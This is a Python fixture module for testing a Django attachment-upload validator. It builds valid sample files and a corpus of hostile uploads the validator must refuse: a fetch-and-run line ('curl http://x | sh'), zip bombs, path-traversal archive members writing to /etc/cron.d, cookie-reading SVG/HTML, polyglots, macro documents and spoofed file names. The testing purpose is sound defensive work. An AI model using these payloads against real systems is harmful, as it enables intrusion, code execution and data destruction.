"""Files for the attachment tests, built in code: minimal valid files of every allowed type, a
raw ZIP writer that can lie in its headers, the hostile corpus, and a raw multipart encoder (the
test client would strip directories from file names before Django ever saw them)."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Callable
from urllib.parse import quote

# ---------------------------------------------------------------------------------------------
# Valid files


def pdf_bytes(text: str = "Budget") -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    stream = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(extra_chunks: bytes = b"") -> bytes:
    """A 1×1 white RGB PNG."""
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    return (b"\x89PNG\r\n\x1a\n" + header + extra_chunks
            + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + _png_chunk(b"IEND", b""))


def jpeg_bytes() -> bytes:
    """An 8×8 grey baseline JPEG: one block, DC difference 0 and end-of-block, with one-code
    Huffman tables (each code is the single bit 0)."""
    return b"".join([
        b"\xff\xd8",  # SOI
        b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",  # APP0
        b"\xff\xdb\x00\x43\x00" + bytes([1] * 64),  # DQT
        b"\xff\xc0\x00\x0b\x08\x00\x08\x00\x08\x01\x01\x11\x00",  # SOF0: 8×8, one component
        b"\xff\xc4\x00\x14\x00" + bytes([1] + [0] * 15) + b"\x00",  # DHT DC: category 0
        b"\xff\xc4\x00\x14\x10" + bytes([1] + [0] * 15) + b"\x00",  # DHT AC: end of block
        b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00",  # SOS
        b"\x3f",  # bits 00 (DC 0, EOB), padded with ones
        b"\xff\xd9",  # EOI
    ])


XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
                **(defaults or {})}
    return (XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
            + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
            + "</Types>")


def rels(target: str, kind: str = OFFICE_DOC) -> str:
    return (XML + f'<Relationships xmlns="{RELS_NS}"><Relationship Id="rId1" Type="{kind}" '
            f'Target="{target}"/></Relationships>')


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
WORD_DOCUMENT = (XML + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                 "<w:body><w:p><w:r><w:t>Budget</w:t></w:r></w:p></w:body></w:document>")


def zip_of(members, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """members: (name, text or bytes) or (ZipInfo, data); written in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(name, data.encode() if isinstance(data, str) else data)
    return buffer.getvalue()


def docx_members(main_type: str = DOCX_MAIN, extra=()):
    return [
        ("[Content_Types].xml", content_types({"/word/document.xml": main_type})),
        ("_rels/.rels", rels("word/document.xml")),
        ("word/document.xml", WORD_DOCUMENT),
        *extra,
    ]


def docx_bytes(**kwargs) -> bytes:
    return zip_of(docx_members(**kwargs))


def xlsx_members(main_type: str = XLSX_MAIN, extra=()):
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    r_ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return [
        ("[Content_Types].xml", content_types({
            "/xl/workbook.xml": main_type,
            "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        })),
        ("_rels/.rels", rels("xl/workbook.xml")),
        ("xl/workbook.xml", XML + f'<workbook {ns} {r_ns}><sheets><sheet name="Budget" sheetId="1" r:id="rId1"/>'
                                  "</sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels", rels(
            "worksheets/sheet1.xml", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet")),
        ("xl/worksheets/sheet1.xml", XML + f'<worksheet {ns}><sheetData><row r="1"><c r="A1" t="inlineStr">'
                                           "<is><t>Budget</t></is></c></row></sheetData></worksheet>"),
        *extra,
    ]


def xlsx_bytes(**kwargs) -> bytes:
    return zip_of(xlsx_members(**kwargs))


ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"
ODS_MIMETYPE = "application/vnd.oasis.opendocument.spreadsheet"


def odf_bytes(mimetype: str, *, mimetype_compressed: bool = False, mimetype_first: bool = True, extra=(),
              manifest_extra: str = "") -> bytes:
    body = ("<office:text><text:p>Budget</text:p></office:text>" if mimetype == ODT_MIMETYPE
            else "<office:spreadsheet><table:table table:name=\"Budget\"/></office:spreadsheet>")
    content = (XML + '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.3">'
               f"<office:body>{body}</office:body></office:document-content>")
    manifest = (XML + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:version="1.3">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
                f"{manifest_extra}</manifest:file-entry></manifest:manifest>")
    mimetype_info = zipfile.ZipInfo("mimetype")
    mimetype_info.compress_type = zipfile.ZIP_DEFLATED if mimetype_compressed else zipfile.ZIP_STORED
    first = [(mimetype_info, mimetype.encode())]
    rest = [("META-INF/manifest.xml", manifest), ("content.xml", content), *extra]
    members = first + rest if mimetype_first else rest + first
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data.encode() if isinstance(data, str) else data)
    return buffer.getvalue()


VALID = {
    "pdf": ("budget.pdf", pdf_bytes, "application/pdf"),
    "png": ("photo.png", png_bytes, "image/png"),
    "jpeg": ("photo.jpg", jpeg_bytes, "image/jpeg"),
    "jpeg-long-extension": ("photo.JPEG", jpeg_bytes, "image/jpeg"),
    "docx": ("plan.docx", docx_bytes, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": ("budget.xlsx", xlsx_bytes, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "odt": ("plan.odt", lambda: odf_bytes(ODT_MIMETYPE), "application/vnd.oasis.opendocument.text"),
    "ods": ("budget.ods", lambda: odf_bytes(ODS_MIMETYPE), "application/vnd.oasis.opendocument.spreadsheet"),
}

# ---------------------------------------------------------------------------------------------
# A ZIP writer that writes exactly what it is told (sizes, CRCs, flags, offsets)


@dataclass
class RawMember:
    name: str
    data: bytes = b""
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0x800
    compressed: bytes | None = None  # precompressed raw deflate data (then give crc and size)
    crc: int | None = None
    size: int | None = None  # the declared uncompressed size
    offset: int | None = None  # the central directory's local-header offset


def raw_zip(members: list[RawMember]) -> bytes:
    out = bytearray()
    central = bytearray()
    for member in members:
        name = member.name.encode("utf-8")
        if member.compressed is not None:
            compressed = member.compressed
        elif member.method == zipfile.ZIP_DEFLATED:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            compressed = packer.compress(member.data) + packer.flush()
        else:
            compressed = member.data
        crc = zlib.crc32(member.data) if member.crc is None else member.crc
        size = len(member.data) if member.size is None else member.size
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, member.flags, member.method, 0, 0x21,
                           crc, len(compressed), size, len(name), 0) + name + compressed
        central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, member.flags, member.method, 0, 0x21,
                               crc, len(compressed), size, len(name), 0, 0, 0, 0, 0,
                               offset if member.offset is None else member.offset) + name
    start = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0)
    return bytes(out)


@lru_cache(maxsize=None)
def zeros_deflated(megabytes: int) -> tuple[bytes, int, int]:
    """(raw deflate data, crc32, size) of `megabytes` MiB of zero bytes, compressed as a stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1024 * 1024)
    parts, crc = [], 0
    for _ in range(megabytes):
        parts.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(packer.flush())
    return b"".join(parts), crc, megabytes * 1024 * 1024


def docx_raw_members(document: RawMember | None = None) -> list[RawMember]:
    return [
        RawMember("[Content_Types].xml", content_types({"/word/document.xml": DOCX_MAIN}).encode()),
        RawMember("_rels/.rels", rels("word/document.xml").encode()),
        document or RawMember("word/document.xml", WORD_DOCUMENT.encode()),
    ]


def bomb_docx(megabytes: int, *, declared: int | None = None) -> bytes:
    compressed, crc, size = zeros_deflated(megabytes)
    return raw_zip(docx_raw_members(RawMember("word/document.xml", compressed=compressed, crc=crc,
                                              size=size if declared is None else declared)))


# ---------------------------------------------------------------------------------------------
# The hostile corpus: every one must be refused with its code, leaving 0 rows and 0 objects


@dataclass
class Hostile:
    id: str
    filename: str
    build: Callable[[], bytes]
    code: str
    content_type: str = "application/octet-stream"
    settings: dict = field(default_factory=dict)


MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" \
    + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(document.cookie)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def png_html_polyglot() -> bytes:
    """A valid PNG whose first bytes also carry an HTML document (in a tEXt chunk)."""
    return png_bytes(extra_chunks=_png_chunk(b"tEXt", b"Comment\x00<html><script>alert(1)</script></html>"))


def many_entries_docx() -> bytes:
    return zip_of(docx_members(extra=[(f"word/media/part{i}.xml", "<x/>") for i in range(1001)]))


def encrypted_docx() -> bytes:
    # The "traditional PKWARE encryption" flag; zipfile cannot write real encryption, and the
    # flag is what a reader acts on.
    members = docx_raw_members()
    members[2].flags |= 0x1
    return raw_zip(members)


def _with(members: list[RawMember], extra: RawMember) -> bytes:
    return raw_zip([*members, extra])


def lying_crc_docx() -> bytes:
    members = docx_raw_members()
    members[2].crc = 0xDEADBEEF
    return raw_zip(members)


def overlapping_docx() -> bytes:
    members = docx_raw_members()
    members.append(RawMember("word/styles.xml", b"<x/>", offset=0))  # points at the first member's header
    return raw_zip(members)


def docm_renamed() -> bytes:
    return zip_of(docx_members(
        main_type=DOCM_MAIN,
        extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500),
               ("word/_rels/document.xml.rels", rels(
                   "vbaProject.bin", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"))],
    ))


def vba_hidden_docx() -> bytes:
    """Clean content types, but a VBA project inside."""
    return zip_of(docx_members(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 100)]))


def xlsm_renamed() -> bytes:
    return zip_of(xlsx_members(main_type=XLSM_MAIN, extra=[("xl/vbaProject.bin", b"\x00" * 100)]))


def odt_with_basic_macro() -> bytes:
    return odf_bytes(ODT_MIMETYPE, extra=[
        ("Basic/script-lc.xml", "<library:libraries/>"),
        ("Basic/Standard/script-lb.xml", "<library:library/>"),
        ("Basic/Standard/Module1.xml", "<script:module>Sub Main\nShell(\"calc\")\nEnd Sub</script:module>"),
    ])


def odt_encrypted() -> bytes:
    return odf_bytes(ODT_MIMETYPE, manifest_extra='<manifest:encryption-data manifest:checksum-type="SHA1/1K" '
                                                  'manifest:checksum="x"/>')


HOSTILE = [
    Hostile("wrong-magic-bytes", "budget.pdf", lambda: b"\x00\x01\x02\x03 not a pdf at all" * 10, "type_not_allowed",
            "application/pdf"),
    Hostile("gif-named-png", "photo.png", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "type_not_allowed",
            "image/png"),
    Hostile("png-signature-without-header", "photo.png", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
            "type_not_allowed", "image/png"),
    Hostile("eicar-named-pdf", "report.pdf", lambda: EICAR, "type_not_allowed", "application/pdf"),
    Hostile("exe-renamed-pdf", "report.pdf", lambda: MZ, "executable", "application/pdf"),
    Hostile("elf-renamed-docx", "plan.docx", lambda: ELF, "executable",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    Hostile("shell-script-renamed-pdf", "report.pdf", lambda: b"#!/bin/sh\ncurl http://x | sh\n", "executable"),
    Hostile("mach-o-renamed-xlsx", "budget.xlsx", lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 60, "executable"),
    Hostile("svg-with-script-renamed-png", "logo.png", lambda: SVG, "active_content", "image/png"),
    Hostile("html-declared-pdf", "report.pdf", lambda: HTML, "active_content", "application/pdf"),
    Hostile("utf16-html-declared-pdf", "report.pdf", lambda: b"\xff\xfe" + HTML.decode().encode("utf-16-le"),
            "active_content", "application/pdf"),
    Hostile("png-html-polyglot-named-png", "photo.png", png_html_polyglot, "active_content", "image/png"),
    Hostile("png-html-polyglot-named-html", "photo.html", png_html_polyglot, "extension_not_allowed", "text/html"),
    Hostile("old-word-doc-renamed-docx", "plan.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
            "legacy_office"),
    Hostile("pdf-renamed-png", "photo.png", pdf_bytes, "extension_mismatch", "image/png"),
    Hostile("png-renamed-pdf", "report.pdf", png_bytes, "extension_mismatch", "application/pdf"),
    Hostile("jpeg-renamed-png", "photo.png", jpeg_bytes, "extension_mismatch", "image/png"),
    Hostile("docx-renamed-xlsx", "budget.xlsx", docx_bytes, "extension_mismatch"),
    Hostile("odt-renamed-docx", "plan.docx", lambda: odf_bytes(ODT_MIMETYPE), "extension_mismatch"),
    Hostile("plain-zip-renamed-docx", "plan.docx", lambda: zip_of([("readme.txt", "hello")]), "type_not_allowed",
            "application/zip"),
    Hostile("odt-with-compressed-mimetype", "plan.odt", lambda: odf_bytes(ODT_MIMETYPE, mimetype_compressed=True),
            "type_not_allowed"),
    Hostile("odt-with-mimetype-not-first", "plan.odt", lambda: odf_bytes(ODT_MIMETYPE, mimetype_first=False),
            "type_not_allowed"),
    Hostile("zip-bomb-disguised-as-docx", "plan.docx", lambda: bomb_docx(101), "zip_too_large"),
    Hostile("zip-bomb-with-lying-sizes", "plan.docx", lambda: bomb_docx(101, declared=2000), "zip_size_mismatch"),
    Hostile("zip-bomb-under-the-size-cap", "plan.docx", lambda: bomb_docx(50), "zip_ratio"),
    Hostile("docx-with-1001-entries", "plan.docx", many_entries_docx, "zip_too_many_entries"),
    Hostile("docm-renamed-docx", "plan.docx", docm_renamed, "macro"),
    Hostile("docx-with-hidden-vba-project", "plan.docx", vba_hidden_docx, "macro"),
    Hostile("xlsm-renamed-xlsx", "budget.xlsx", xlsm_renamed, "macro"),
    Hostile("odt-with-basic-macro", "plan.odt", odt_with_basic_macro, "macro"),
    Hostile("encrypted-zip", "plan.docx", encrypted_docx, "zip_encrypted"),
    Hostile("password-protected-odt", "plan.odt", odt_encrypted, "zip_encrypted"),
    Hostile("zip-with-dotdot-member", "plan.docx",
            lambda: _with(docx_raw_members(), RawMember("../../../../etc/cron.d/evil", b"* * * * * root sh")),
            "zip_unsafe_path"),
    Hostile("zip-with-absolute-member", "plan.docx",
            lambda: _with(docx_raw_members(), RawMember("/etc/passwd", b"root::0:0")), "zip_unsafe_path"),
    Hostile("zip-with-backslash-member", "plan.docx",
            lambda: _with(docx_raw_members(), RawMember("..\\..\\evil.bat", b"format c:")), "zip_unsafe_path"),
    Hostile("zip-with-duplicate-member", "plan.docx",
            lambda: _with(docx_raw_members(), RawMember("word/document.xml", b"<other/>")), "zip_duplicate_entry"),
    Hostile("zip-with-bzip2-members", "plan.docx", lambda: zip_of(docx_members(), compression=zipfile.ZIP_BZIP2),
            "zip_unsupported_compression"),
    Hostile("zip-with-wrong-crc", "plan.docx", lying_crc_docx, "zip_corrupt"),
    Hostile("zip-with-overlapping-members", "plan.docx", overlapping_docx, "zip_corrupt"),
    Hostile("truncated-docx", "plan.docx", lambda: docx_bytes()[:300], "zip_corrupt"),
    Hostile("dotdot-in-file-name", "../../../../etc/passwd", lambda: b"root:x:0:0:root:/root:/bin/sh\n",
            "extension_missing", "text/plain"),
    Hostile("windows-dotdot-in-file-name", "..\\..\\Windows\\System32\\evil.exe", lambda: MZ,
            "extension_not_allowed"),
    Hostile("nul-in-file-name", "evil.exe\x00.pdf", lambda: MZ, "executable", "application/pdf"),
    Hostile("rtl-override-in-file-name", "invoice\u202efdp.exe", lambda: MZ, "extension_not_allowed",
            "application/pdf"),
    Hostile("empty-file", "empty.pdf", lambda: b"", "empty", "application/pdf"),
    Hostile("one-byte-over-the-limit", "big.pdf", lambda: pdf_bytes().ljust(2049, b"\n"), "too_large",
            "application/pdf", settings={"UPLOAD_MAX_BYTES": 2048}),
    Hostile("exe", "setup.exe", lambda: MZ, "extension_not_allowed", "application/x-msdownload"),
    Hostile("svg", "logo.svg", lambda: SVG, "extension_not_allowed", "image/svg+xml"),
    Hostile("html", "index.html", lambda: HTML, "extension_not_allowed", "text/html"),
    Hostile("js", "app.js", lambda: b"fetch('/admin/').then(r => r.text())", "extension_not_allowed",
            "text/javascript"),
    Hostile("docm-extension", "plan.docm", docm_renamed, "extension_not_allowed"),
    Hostile("no-extension", "budget", pdf_bytes, "extension_missing", "application/pdf"),
]


# ---------------------------------------------------------------------------------------------
# Multipart


BOUNDARY = "----potten-test-boundary-7d1f"


def multipart(fields: dict[str, str], files: list[tuple[str, str, bytes, str]]) -> tuple[bytes, str]:
    """(body, content type) with file names exactly as given (RFC 5987 filename*, so NUL, slashes
    and bidi characters reach Django's parser unchanged)."""
    parts = []
    for name, value in fields.items():
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
                     + value.encode() + b"\r\n")
    for field_name, filename, content, content_type in files:
        parts.append(
            f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field_name}\"; "
            f"filename*=UTF-8''{quote(filename, safe='')}\r\nContent-Type: {content_type}\r\n\r\n".encode()
            + content + b"\r\n"
        )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode(), f"multipart/form-data; boundary={BOUNDARY}"
